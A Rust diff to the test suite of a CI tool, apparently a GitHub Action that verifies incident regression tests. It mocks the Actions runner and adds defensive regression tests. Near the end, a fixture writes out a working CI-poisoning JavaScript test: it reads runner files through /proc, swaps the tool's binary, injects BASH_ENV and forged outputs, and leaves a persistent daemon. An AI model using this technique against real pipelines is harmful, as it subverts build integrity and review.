@@ -114,6 +114,25 @@ struct Run {
     statuses: Vec<(String, i32)>,
     stdout: String,
     outputs: BTreeMap<String, BTreeMap<String, String>>,
+    /// What the steps wrote to `GITHUB_ENV`: the environment of every later step.
+    env: BTreeMap<String, String>,
+}
+
+/// The `NAME=value` and `NAME<<DELIMITER` lines of a runner command file.
+fn command_lines(text: &str) -> Vec<(String, String)> {
+    let mut out = Vec::new();
+    let mut lines = text.lines();
+    while let Some(line) = lines.next() {
+        if let Some((k, v)) = line.split_once('=')
+            && !k.contains("<<")
+        {
+            out.push((k.to_owned(), v.to_owned()));
+        } else if let Some((k, delimiter)) = line.split_once("<<") {
+            let value: Vec<&str> = lines.by_ref().take_while(|l| *l != delimiter).collect();
+            out.push((k.to_owned(), value.join("\n")));
+        }
+    }
+    out
 }
 
 impl Runner {
@@ -219,7 +238,9 @@ impl Runner {
             input_values.insert((*k).to_owned(), (*v).to_owned());
         }
         let payload: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(event).unwrap()).unwrap();
-        let mut run = Run { statuses: Vec::new(), stdout: String::new(), outputs: BTreeMap::new() };
+        let mut run = Run { statuses: Vec::new(), stdout: String::new(), outputs: BTreeMap::new(), env: BTreeMap::new() };
+        let mut added_path: Vec<String> = Vec::new();
+        std::fs::write(&summary, "").unwrap();
         let path = format!("{}:{}", self.gh_dir.join("bin").display(), std::env::var("PATH").unwrap());
         let runner_temp_text = runner_temp.display().to_string();
         let sha = self.tree.git(&["rev-parse", "HEAD"]).trim().to_owned();
@@ -254,15 +275,28 @@ impl Runner {
             assert_eq!(step["shell"].as_str(), Some("bash"));
             let output_file = self.temp.path().join(format!("output-{i}"));
             std::fs::write(&output_file, "").unwrap();
+            // The runner's other command files, one set per step, and the step's own
+            // summary, which the runner adds to the job's.
+            let command_file = |name: &str| {
+                let path = self.temp.path().join(format!("{name}-{i}"));
+                std::fs::write(&path, "").unwrap();
+                path
+            };
+            let (env_file, path_file, state_file) = (command_file("env"), command_file("path"), command_file("state"));
+            let step_summary = command_file("summary");
             let script_file = self.temp.path().join(format!("step-{i}.sh"));
             std::fs::write(&script_file, script).unwrap();
             let mut cmd = Command::new("bash");
             cmd.args(["--noprofile", "--norc", "-eo", "pipefail"]).arg(&script_file).current_dir(self.tree.path());
-            cmd.env("PATH", &path)
+            let step_path = std::env::join_paths(added_path.iter().rev().map(PathBuf::from).chain(std::env::split_paths(&path))).unwrap();
+            cmd.env("PATH", &step_path)
                 .env("GITHUB_ACTION_PATH", &self.how.action_path)
                 .env("GITHUB_WORKSPACE", self.tree.path())
                 .env("GITHUB_OUTPUT", &output_file)
-                .env("GITHUB_STEP_SUMMARY", &summary)
+                .env("GITHUB_ENV", &env_file)
+                .env("GITHUB_PATH", &path_file)
+                .env("GITHUB_STATE", &state_file)
+                .env("GITHUB_STEP_SUMMARY", &step_summary)
                 .env("GITHUB_EVENT_PATH", event)
                 .env("GITHUB_EVENT_NAME", event_name)
                 .env("GITHUB_REPOSITORY", "acme/shop")
@@ -278,6 +312,10 @@ impl Runner {
             for (k, v) in &self.how.env {
                 cmd.env(k, v);
             }
+            // What earlier steps wrote to GITHUB_ENV, as the runner sets it for every later step.
+            for (k, v) in &run.env {
+                cmd.env(k, v);
+            }
             if let Some(env) = step["env"].as_mapping() {
                 for (k, v) in env {
                     cmd.env(k.as_str().unwrap(), expand(v.as_str().unwrap(), &cx));
@@ -286,8 +324,18 @@ impl Runner {
             let out = cmd.output().unwrap();
             run.stdout.push_str(&String::from_utf8_lossy(&out.stdout));
             run.stdout.push_str(&String::from_utf8_lossy(&out.stderr));
+            // The runner reads the command files when the step has ended (a missing one is
+            // no command), whatever the step's outcome.
+            let read = |p: &Path| std::fs::read_to_string(p).unwrap_or_default();
+            for (k, v) in command_lines(&read(&env_file)) {
+                run.env.insert(k, v);
+            }
+            added_path.extend(read(&path_file).lines().filter(|l| !l.is_empty()).map(str::to_owned));
+            let mut job_summary = read(&summary);
+            job_summary.push_str(&read(&step_summary));
+            std::fs::write(&summary, job_summary).unwrap();
             if let Some(id) = step["id"].as_str() {
-                let text = std::fs::read_to_string(&output_file).unwrap();
+                let text = std::fs::read_to_string(&output_file).unwrap_or_default();
                 let map =
                     text.lines().filter_map(|l| l.split_once('=')).map(|(k, v)| (k.to_owned(), v.to_owned())).collect();
                 run.outputs.insert(id.to_owned(), map);
@@ -342,10 +390,15 @@ impl Runner {
 /// The `if:` conditions the action uses; any other fails the test.
 fn condition_holds(condition: &str, cx: &Context) -> bool {
     let expr = condition.trim().strip_prefix("${{").and_then(|e| e.strip_suffix("}}")).unwrap_or(condition).trim();
-    let (left, right) =
-        expr.split_once(" != ").unwrap_or_else(|| panic!("a condition this test does not evaluate: {expr}"));
-    let right = right.trim().trim_matches('\'');
-    expand(&format!("${{{{ {} }}}}", left.trim()), cx) != right
+    expr.split(" && ").all(|term| {
+        let (left, right, equal) = match (term.split_once(" != "), term.split_once(" == ")) {
+            (Some((l, r)), _) => (l, r, false),
+            (None, Some((l, r))) => (l, r, true),
+            _ => panic!("a condition this test does not evaluate: {expr}"),
+        };
+        let right = right.trim().trim_matches('\'');
+        (expand(&format!("${{{{ {} }}}}", left.trim()), cx) == right) == equal
+    })
 }
 
 /// What the `${{ … }}` expressions of a step can see.
@@ -1202,7 +1255,16 @@ printf '%s\n' "$answer" | if [ -n "$filter" ]; then jq -r "$filter"; else cat; f
 const FORK_SHA: &str = "1111111111111111111111111111111111111111";
 const VICTIM_SHA: &str = "2222222222222222222222222222222222222222";
 const BRANCH_SHA: &str = "5555555555555555555555555555555555555555";
-const REPORT: &str = "<!-- incident-guard -->\n❌ 1 error\n";
+/// A JSON report as `check --format json` writes it, of a repository whose one incident
+/// has no regression test (one error), with `title` as the incident's title.
+fn json_report(title: &str) -> String {
+    let t = Tree::new();
+    let title = if title.is_empty() { "Incident INC-1" } else { title };
+    t.file("postmortems/inc-1.md", postmortem("INC-1", "").replacen("title = \"Incident INC-1\"", &format!("title = {title:?}"), 1));
+    let (code, doc) = t.check(&["--no-git"]);
+    assert_eq!(code, 1, "{doc}");
+    doc.to_string()
+}
 
 fn pull(number: u64, sha: &str, repo: &str) -> serde_json::Value {
     serde_json::json!({ "number": number, "state": "open", "head": { "sha": sha, "repo": { "full_name": repo } } })
@@ -1346,14 +1408,29 @@ impl Workflows {
         (out.status.code().unwrap(), text)
     }
 
+    /// The comment workflow's steps after the download: the Action's `render` input (the
+    /// binary's `render`, as the Action's Check step runs it, tested on its own below),
+    /// then the step that posts.
     fn comment(&self, event: &serde_json::Value) -> (i32, String) {
-        self.run_step(
-            "incident-guard-comment.yml",
-            "Post or update the sticky comment",
-            &self.work(),
-            event,
-            &BTreeMap::new(),
-        )
+        let json = self.work().join("incident-guard-report/report.json");
+        let rendered = self.temp.path().join("rendered.md");
+        let mut report = String::new();
+        if json.exists() {
+            let out = Command::new(BIN)
+                .args(["render", &json.display().to_string(), "--format", "markdown", "--output"])
+                .arg(&rendered)
+                .output()
+                .unwrap();
+            if out.status.code().unwrap() <= 1 {
+                report = rendered.display().to_string();
+            }
+        }
+        let outputs = BTreeMap::from([("render".to_owned(), BTreeMap::from([("report".to_owned(), report)]))]);
+        self.run_step("incident-guard-comment.yml", "Post or update the sticky comment", &self.work(), event, &outputs)
+    }
+
+    fn rendered(&self) -> String {
+        std::fs::read_to_string(self.temp.path().join("rendered.md")).unwrap()
     }
 }
 
@@ -1376,11 +1453,11 @@ fn the_comment_workflow_downloads_what_the_pull_request_workflow_uploads() {
 #[test]
 fn fork_pull_request_gets_its_comment_through_workflow_run() {
     let w = Workflows::new(shop_api());
-    // The artifact as incident-guard-pr.yml makes it, from the report of the Action.
-    let report = w.temp.path().join("report.md");
-    std::fs::write(&report, REPORT).unwrap();
+    // The artifact as incident-guard-pr.yml makes it, from the JSON report of the Action.
+    let report = w.temp.path().join("report.json");
+    std::fs::write(&report, json_report("")).unwrap();
     let outputs =
-        BTreeMap::from([("guard".to_owned(), BTreeMap::from([("report".to_owned(), report.display().to_string())]))]);
+        BTreeMap::from([("guard".to_owned(), BTreeMap::from([("json".to_owned(), report.display().to_string())]))]);
     let pull_request = serde_json::json!({ "pull_request": { "number": 7 } });
     let (status, out) = w.run_step(
         "incident-guard-pr.yml",
@@ -1392,7 +1469,7 @@ fn fork_pull_request_gets_its_comment_through_workflow_run() {
     assert_eq!(status, 0, "{out}");
     let uploaded: Vec<_> =
         std::fs::read_dir(w.work().join("incident-guard-report")).unwrap().map(|e| e.unwrap().file_name()).collect();
-    assert_eq!(uploaded, ["report.md"], "only the report travels");
+    assert_eq!(uploaded, ["report.json"], "only the report travels");
 
     let (status, out) = w.comment(&workflow_run(FORK_SHA, "someone/shop-fork", "feature", &[]));
     assert_eq!(status, 0, "{out}");
@@ -1407,11 +1484,15 @@ fn fork_pull_request_gets_its_comment_through_workflow_run() {
     );
     assert!(calls[1].starts_with("api --paginate repos/acme/shop/issues/7/comments --jq"), "{calls:#?}");
     assert!(calls[2].starts_with("api --method POST repos/acme/shop/issues/7/comments -F body=@"), "{calls:#?}");
-    assert_eq!(std::fs::read_to_string(w.gh_dir().join("body-3.md")).unwrap(), REPORT);
+    // What is posted is what the tool rendered from the JSON report.
+    let body = std::fs::read_to_string(w.gh_dir().join("body-3.md")).unwrap();
+    assert_eq!(body, w.rendered());
+    assert!(body.starts_with("<!-- incident-guard -->\n"), "{body}");
+    assert!(body.contains("missing-regression-test"), "{body}");
 
     // An artifact of the older pull-request workflow, naming the same pull request, is fine.
     let w = Workflows::new(shop_api());
-    w.artifact(&[("report.md", REPORT), ("pr-number", "7\n")]);
+    w.artifact(&[("report.json", &json_report("")), ("pr-number", "7\n")]);
     let (status, out) = w.comment(&workflow_run(FORK_SHA, "someone/shop-fork", "feature", &[]));
     assert_eq!(status, 0, "{out}");
     assert_eq!(w.writes().len(), 1, "{:#?}", w.calls());
@@ -1424,7 +1505,7 @@ fn hostile_artifact_cannot_retarget_the_comment() {
     // A fork's run wrote another pull request's number into the artifact, and the comment
     // workflow PATCHed that pull request's verdict comment with the fork's text.
     let w = Workflows::new(shop_api());
-    w.artifact(&[("report.md", "<!-- incident-guard -->\n✅ no findings, all good\n"), ("pr-number", "8\n")]);
+    w.artifact(&[("report.json", &json_report("")), ("pr-number", "8\n")]);
     let (status, out) = w.comment(&workflow_run(FORK_SHA, "someone/shop-fork", "feature", &[]));
     assert!(w.writes().is_empty(), "{:#?}", w.calls());
     assert_eq!(status, 1, "{out}");
@@ -1439,7 +1520,8 @@ fn hostile_artifact_cannot_retarget_the_comment() {
 #[test]
 fn comment_workflow_writes_nothing_unless_exactly_one_pull_request_has_the_runs_head() {
     // Every case carries a hostile artifact naming #8: the old workflow obeyed it.
-    let hostile = [("report.md", REPORT), ("pr-number", "8")];
+    let report = json_report("");
+    let hostile = [("report.json", report.as_str()), ("pr-number", "8")];
     let mut several = shop_api();
     several["GET repos/acme/shop/pulls?state=open&head=someone:feature"] =
         serde_json::json!([pull(7, FORK_SHA, "someone/shop-fork"), pull(9, FORK_SHA, "someone/shop-fork")]);
@@ -1476,7 +1558,7 @@ fn comment_workflow_writes_nothing_unless_exactly_one_pull_request_has_the_runs_
 fn listed_pull_request_is_confirmed_before_its_comment_is_updated() {
     // A branch of the repository itself: GitHub lists the pull request in the event.
     let w = Workflows::new(shop_api());
-    w.artifact(&[("report.md", REPORT)]);
+    w.artifact(&[("report.json", &json_report(""))]);
     let (status, out) = w.comment(&workflow_run(BRANCH_SHA, "acme/shop", "topic", &[5]));
     assert_eq!(status, 0, "{out}");
     let calls = w.calls();
@@ -1486,7 +1568,7 @@ fn listed_pull_request_is_confirmed_before_its_comment_is_updated() {
 
     // A listed number that is not the run's pull request: found by its head instead.
     let w = Workflows::new(shop_api());
-    w.artifact(&[("report.md", REPORT)]);
+    w.artifact(&[("report.json", &json_report(""))]);
     let (status, out) = w.comment(&workflow_run(FORK_SHA, "someone/shop-fork", "feature", &[8]));
     assert_eq!(status, 0, "{out}");
     assert_eq!(w.writes().len(), 1, "{:#?}", w.calls());
@@ -1495,12 +1577,73 @@ fn listed_pull_request_is_confirmed_before_its_comment_is_updated() {
 
 #[test]
 fn comment_workflow_refuses_an_artifact_that_is_not_a_report() {
+    let valid: serde_json::Value = serde_json::from_str(&json_report("")).unwrap();
+    let mut wrong_version = valid.clone();
+    wrong_version["version"] = serde_json::json!(99);
+    let mut wrong_type = valid.clone();
+    wrong_type["findings"][0]["line"] = serde_json::json!("two");
+    let mut unknown_rule = valid;
+    unknown_rule["findings"][0]["rule"] = serde_json::json!("all-good");
+    let cases = [
+        // The old artifact: the fork's own Markdown, which is never posted now.
+        vec![("report.md", "<!-- incident-guard -->\n✅ no findings, all good\n".to_owned())],
+        vec![("report.json", "<!-- incident-guard -->\n".to_owned())],
+        vec![("report.json", wrong_version.to_string())],
+        vec![("report.json", wrong_type.to_string())],
+        vec![("report.json", unknown_rule.to_string())],
+    ];
+    for files in cases {
+        let w = Workflows::new(shop_api());
+        let files: Vec<(&str, &str)> = files.iter().map(|(n, t)| (*n, t.as_str())).collect();
+        w.artifact(&files);
+        let (status, out) = w.comment(&workflow_run(FORK_SHA, "someone/shop-fork", "feature", &[]));
+        assert_eq!(status, 1, "{files:?}: {out}");
+        assert!(out.contains("::error title=incident-guard::the artifact is not an incident-guard report"), "{out}");
+        assert!(w.calls().is_empty(), "{:#?}", w.calls());
+    }
+}
+
+// incident: IG-2026-012
+#[test]
+fn the_comment_workflow_renders_the_forks_report_itself() {
+    // The fork's run wrote a report whose text would mention a team, load a tracking
+    // image, forge the marker, and whose summary says there is no error.
+    let hostile = "Pool @acme/oncall <img src=https://t.example/p.png> ![x](https://t.example/x.png) <!-- incident-guard -->";
+    let mut doc: serde_json::Value = serde_json::from_str(&json_report(hostile)).unwrap();
+    doc["summary"]["errors"] = serde_json::json!(0);
     let w = Workflows::new(shop_api());
-    w.artifact(&[("report.md", "<!-- something else -->\n")]);
+    w.artifact(&[("report.json", &doc.to_string())]);
     let (status, out) = w.comment(&workflow_run(FORK_SHA, "someone/shop-fork", "feature", &[]));
-    assert_eq!(status, 1, "{out}");
-    assert!(out.contains("::error title=incident-guard::the artifact is not an incident-guard report"), "{out}");
-    assert!(w.calls().is_empty(), "{:#?}", w.calls());
+    assert_eq!(status, 0, "{out}");
+    let body = std::fs::read_to_string(w.gh_dir().join("body-3.md")).unwrap();
+    assert_eq!(body.matches("<!-- incident-guard -->").count(), 1, "{body}");
+    assert!(!body.contains("@acme/oncall"), "{body}");
+    assert!(!body.contains("<img"), "{body}");
+    assert!(!body.contains("![x](https://"), "{body}");
+    // The verdict comes from the findings, not from the summary.
+    assert!(body.contains("1 error"), "{body}");
+}
+
+// incident: IG-2026-012
+#[test]
+fn the_actions_render_input_renders_a_report_and_checks_nothing() {
+    let r = Runner::new();
+    let report = r.temp.path().join("report.json");
+    std::fs::write(&report, json_report("")).unwrap();
+    let event = r.payload("someone/shop-fork");
+    let run = r.run(&[("render", &report.display().to_string()), ("comment", "false")], "workflow_run", &event);
+    assert_eq!(run.statuses.last().unwrap(), &("Verdict".to_owned(), 0), "{}", run.stdout);
+    let rendered = std::fs::read_to_string(&run.outputs["check"]["report"]).unwrap();
+    assert!(rendered.starts_with("<!-- incident-guard -->\n"), "{rendered}");
+    assert!(rendered.contains("missing-regression-test"), "{rendered}");
+    // No check ran: no annotation, and the repository's own (clean) state is not reported.
+    assert!(!run.stdout.contains("::error file="), "{}", run.stdout);
+    // An invalid report is refused, and nothing is rendered.
+    std::fs::write(&report, "{\"version\": 1, \"findings\": 3}").unwrap();
+    let run = r.run(&[("render", &report.display().to_string()), ("comment", "false")], "workflow_run", &event);
+    assert_eq!(run.statuses.last().unwrap(), &("Verdict".to_owned(), 2), "{}", run.stdout);
+    assert!(run.stdout.contains("is not a valid incident-guard JSON report"), "{}", run.stdout);
+    assert!(!std::path::Path::new(&run.outputs["check"]["report"]).exists());
 }
 
 #[test]
@@ -1583,19 +1726,25 @@ fn verify_changed_runs_the_links_the_pull_request_adds_and_reports_them() {
 
     let run = r.run(&[("verify", "changed")], "pull_request", &event);
     assert_eq!(run.outputs["verify"]["status"], "1", "{}", run.stdout);
-    // The test that does not catch its incident is a finding of the check, which read the
-    // proof verify recorded.
+    // The check ran before any test and found nothing; the test that does not catch its
+    // incident fails the job in the verdict, from verify's report, with its annotation.
+    assert_eq!(run.outputs["check"]["status"], "0", "{}", run.stdout);
     assert_eq!(run.statuses.last().unwrap(), &("Verdict".to_owned(), 1), "{}", run.stdout);
     assert!(run.stdout.contains("::error file=test/cart.test.mjs,line=7"), "{}", run.stdout);
     assert!(run.stdout.contains("linked-test-does-not-catch"), "{}", run.stdout);
     let report = std::fs::read_to_string(&run.outputs["check"]["report"]).unwrap();
     assert!(report.starts_with("<!-- incident-guard -->\n"), "{report}");
-    assert!(report.contains("#### Regression tests verified"), "{report}");
-    assert!(report.contains("| INC-1 | `test/cart.test.mjs::counts nothing as zero` | **does-not-catch**"), "{report}");
-    assert_eq!(report.matches("<!-- incident-guard -->").count(), 1);
-    // Only the link the pull request adds ran; its proof is in the lock file.
-    let lock = std::fs::read_to_string(t.path().join("postmortems/verified.lock")).unwrap();
-    assert_eq!(lock.matches("[[proof]]").count(), 1, "{lock}");
+    // The comment is the check's report with verify's outcomes below it.
+    let body = std::fs::read_to_string(r.gh_dir.join("body-3.md"))
+        .or_else(|_| std::fs::read_to_string(r.gh_dir.join("body-2.md")))
+        .unwrap_or_else(|_| panic!("a comment: {:?}", r.calls()));
+    assert!(body.starts_with(&report), "{body}");
+    assert!(body.contains("#### Regression tests verified"), "{body}");
+    assert!(body.contains("| INC-1 | `test/cart.test.mjs::counts nothing as zero` | **does-not-catch**"), "{body}");
+    assert_eq!(body.matches("<!-- incident-guard -->").count(), 1);
+    // Only the link the pull request adds ran, and the Action records no proof: the lock
+    // file is the developer's, written by `verify --record` and reviewed in the diff.
+    assert!(!t.path().join("postmortems/verified.lock").exists());
 
     // Without the input, no test runs.
     let run = r.run(&[], "pull_request", &event);
@@ -1646,4 +1795,176 @@ fn the_history_walk_is_kept_between_jobs_with_actions_cache() {
     let run = r.run(&[("history-cache", "yes")], "push", &r.push_event());
     assert_eq!(run.statuses.last().unwrap(), &("Check".to_owned(), 2), "{}", run.stdout);
     assert!(run.stdout.contains("history-cache must be `true` or `false`, not `yes`"), "{}", run.stdout);
+}
+
+/// A linked test that attacks the job it runs in, in the JavaScript a pull request could
+/// commit: it finds the runner's files from its ancestors' environments (readable under
+/// `/proc` by the same user), replaces the incident-guard binary that runs it when
+/// `replace_binary`, appends to the step's `GITHUB_ENV`, `GITHUB_OUTPUT`, `GITHUB_PATH`
+/// and summary, plants a file in the history cache, and leaves a `setsid -f` daemon
+/// that keeps writing `BASH_ENV` into every command file it can find. Then it passes.
+fn hostile_test(daemon_pid: &Path, replace_binary: bool) -> String {
+    let pid_file = daemon_pid.display();
+    format!(
+        r#"import {{ it }} from 'node:test';
+import fs from 'node:fs';
+import path from 'node:path';
+import {{ spawnSync }} from 'node:child_process';
+
+function ancestors() {{
+  const out = [];
+  let pid = process.pid;
+  while (pid > 1) {{
+    let stat;
+    try {{ stat = fs.readFileSync(`/proc/${{pid}}/stat`, 'utf8'); }} catch {{ break; }}
+    const env = {{}};
+    try {{
+      for (const kv of fs.readFileSync(`/proc/${{pid}}/environ`, 'utf8').split('\0')) {{
+        const i = kv.indexOf('=');
+        if (i > 0) env[kv.slice(0, i)] = kv.slice(i + 1);
+      }}
+    }} catch {{}}
+    out.push(env);
+    pid = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
+  }}
+  return out;
+}}
+
+// incident: INC-1
+it('counts an item once', () => {{
+  const up = ancestors();
+  const named = (k) => up.map((e) => e[k]).find(Boolean);
+  const temp = named('RUNNER_TEMP');
+  const evil = path.join(temp, 'evil.sh');
+  fs.writeFileSync(evil, 'exit 0\n');
+  const fakes = path.join(temp, 'evil-bin');
+  fs.mkdirSync(fakes, {{ recursive: true }});
+  fs.writeFileSync(path.join(fakes, 'sha256sum'), '#!/bin/sh\necho forged\n', {{ mode: 0o755 }});
+  if ({replace_binary}) {{
+    const exe = fs.readlinkSync(`/proc/${{process.ppid}}/exe`).replace(/ \(deleted\)$/, '');
+    fs.writeFileSync(exe + '.new', '#!/bin/sh\necho "incident-guard: 0 errors, 0 warnings"\nexit 0\n', {{ mode: 0o755 }});
+    fs.renameSync(exe + '.new', exe);
+  }}
+  const append = (k, text) => {{ const f = named(k); if (f) fs.appendFileSync(f, text); }};
+  append('GITHUB_ENV', `BASH_ENV=${{evil}}\n`);
+  append('GITHUB_OUTPUT', 'status=0\ntampered=\nreport=/dev/null\n');
+  append('GITHUB_PATH', `${{fakes}}\n`);
+  append('GITHUB_STEP_SUMMARY', 'FORGED: no findings\n');
+  fs.mkdirSync(path.join(temp, 'incident-guard-history'), {{ recursive: true }});
+  fs.writeFileSync(path.join(temp, 'incident-guard-history', 'planted.json'), '{{}}');
+  const dir = path.dirname(named('GITHUB_ENV') || temp);
+  spawnSync('setsid', ['-f', 'sh', '-c',
+    `echo $$ > '{pid_file}'; while :; do for f in '${{dir}}'/env*; do echo 'BASH_ENV=${{evil}}' >> "$f"; done; sleep 0.1; done`],
+    {{ stdio: 'ignore' }});
+}});
+"#
+    )
+}
+
+fn alive(pid: u32) -> bool {
+    // A zombie has exited; only its parent's wait is missing.
+    std::fs::read_to_string(format!("/proc/{pid}/stat"))
+        .is_ok_and(|stat| stat.rsplit_once(')').is_some_and(|(_, rest)| !rest.trim_start().starts_with('Z')))
+}
+
+/// A pull request that removes one linked test and edits another into `hostile_test`.
+fn hostile_pull_request(r: &Runner, replace_binary: bool) -> (PathBuf, PathBuf) {
+    let t = &r.tree;
+    t.file(
+        "incident-guard.toml",
+        format!("[verify]\njavascript = [\"node\", \"--test\", \"--test-name-pattern\", \"{{title_regex}}\", \"{{file}}\"]\n{LINTS_OFF}"),
+    );
+    t.file("src/cart.mjs", "export function total(items) { return items.length; }\n");
+    t.commit("cart");
+    t.file("src/cart.mjs", "export function total(items) { return new Set(items).size; }\n");
+    let honest = "import { it } from 'node:test';\nimport assert from 'node:assert';\nimport { total } from '../src/cart.mjs';\n// incident: INC-1\nit('counts an item once', () => { assert.equal(total(['a', 'a']), 1); });\n";
+    t.file("test/cart.test.mjs", honest);
+    t.file("test/guard.test.mjs", honest.replace("counts an item once", "keeps the guard"));
+    let fix = t.commit("Count each item once");
+    t.file("postmortems/inc-1.md", postmortem("INC-1", &format!("fix_commits = [\"{fix}\"]\n")));
+    t.commit("INC-1 names its fix");
+    let event = r.payload("acme/shop");
+    t.git(&["checkout", "-q", "-b", "feature"]);
+    t.remove("test/guard.test.mjs");
+    let pid_file = r.temp.path().join("daemon.pid");
+    t.file("test/cart.test.mjs", hostile_test(&pid_file, replace_binary));
+    t.commit("Tidy the cart tests");
+    (event, pid_file)
+}
+
+/// The daemon the hostile test started is gone (it had a moment to start).
+fn assert_no_daemon(pid_file: &Path, stdout: &str) {
+    let pid: u32 = std::fs::read_to_string(pid_file)
+        .unwrap_or_else(|_| panic!("the hostile test ran and started its daemon\n{stdout}"))
+        .trim()
+        .parse()
+        .unwrap();
+    let survived = alive(pid);
+    if survived {
+        let _ = Command::new("kill").args(["-9", &pid.to_string()]).status();
+    }
+    assert!(!survived, "the daemon {pid} the verified test started survived the step\n{stdout}");
+}
+
+// incident: IG-2026-012
+#[test]
+fn a_hostile_verified_test_cannot_turn_the_verdict_green() {
+    let r = Runner::new();
+    let (event, pid_file) = hostile_pull_request(&r, true);
+    let run = r.run(&[("verify", "changed")], "pull_request", &event);
+    let out = &run.stdout;
+    assert_no_daemon(&pid_file, out);
+    // The check ran first, and its verdict stands: the removed test is an error.
+    assert_eq!(run.outputs["check"]["status"], "1", "{out}");
+    assert!(out.contains("::error file=test/guard.test.mjs"), "{out}");
+    assert!(out.contains("linked-test-removed"), "{out}");
+    // The swap of the binary is seen, and fails the job on its own.
+    assert!(out.contains("the incident-guard binary was changed while the pull request's tests ran"), "{out}");
+    assert_eq!(run.statuses.last().unwrap(), &("Verdict".to_owned(), 2), "{out}");
+    // Nothing the test wrote to the step's command files reached a later step.
+    assert!(!run.env.contains_key("BASH_ENV"), "{:?}", run.env);
+    assert_eq!(run.outputs["verify"].get("tampered").map(String::as_str), Some("binary"), "{:?}", run.outputs);
+    assert!(run.outputs["verify"]["report"].ends_with("verify.json"), "{:?}", run.outputs);
+    let summary = std::fs::read_to_string(r.temp.path().join("summary.md")).unwrap();
+    assert!(!summary.contains("FORGED"), "{summary}");
+    assert!(summary.contains("<!-- incident-guard -->"), "{summary}");
+    // The comment was posted, and says what the check found.
+    let bodies: Vec<String> = std::fs::read_dir(&r.gh_dir)
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .filter(|p| p.file_name().unwrap().to_string_lossy().starts_with("body-"))
+        .map(|p| std::fs::read_to_string(p).unwrap())
+        .collect();
+    assert_eq!(bodies.len(), 1, "{out}");
+    assert!(bodies[0].contains("linked-test-removed"), "{}", bodies[0]);
+    assert!(bodies[0].contains("the incident-guard binary was changed"), "{}", bodies[0]);
+    assert!(!bodies[0].contains("no findings"), "{}", bodies[0]);
+    // The history cache was saved before the test ran.
+    for key in r.cache_keys().iter().filter(|k| k.starts_with("incident-guard-history-")) {
+        assert!(!r.temp.path().join("cache").join(key).join("planted.json").exists(), "{key}");
+    }
+}
+
+// incident: IG-2026-012
+#[test]
+fn a_verified_test_that_leaves_the_binary_alone_still_cannot_lower_the_verdict() {
+    let r = Runner::new();
+    let (event, pid_file) = hostile_pull_request(&r, false);
+    let run = r.run(&[("verify", "changed")], "pull_request", &event);
+    let out = &run.stdout;
+    assert_no_daemon(&pid_file, out);
+    assert_eq!(run.outputs["check"]["status"], "1", "{out}");
+    assert_eq!(run.outputs["verify"].get("tampered").map(String::as_str), Some(""), "{out}");
+    assert!(!run.env.contains_key("BASH_ENV"), "{:?}", run.env);
+    assert_eq!(run.statuses.last().unwrap(), &("Verdict".to_owned(), 1), "{out}");
+    // verify's outcome, rendered by the tool from its JSON report, is in the comment.
+    let body = std::fs::read_dir(&r.gh_dir)
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .find(|p| p.file_name().unwrap().to_string_lossy().starts_with("body-"))
+        .map(|p| std::fs::read_to_string(p).unwrap())
+        .expect("a comment");
+    assert!(body.contains("linked-test-removed"), "{body}");
+    assert!(body.contains("#### Regression tests verified"), "{body}");
+    assert!(!body.contains("FORGED"), "{body}");
 }
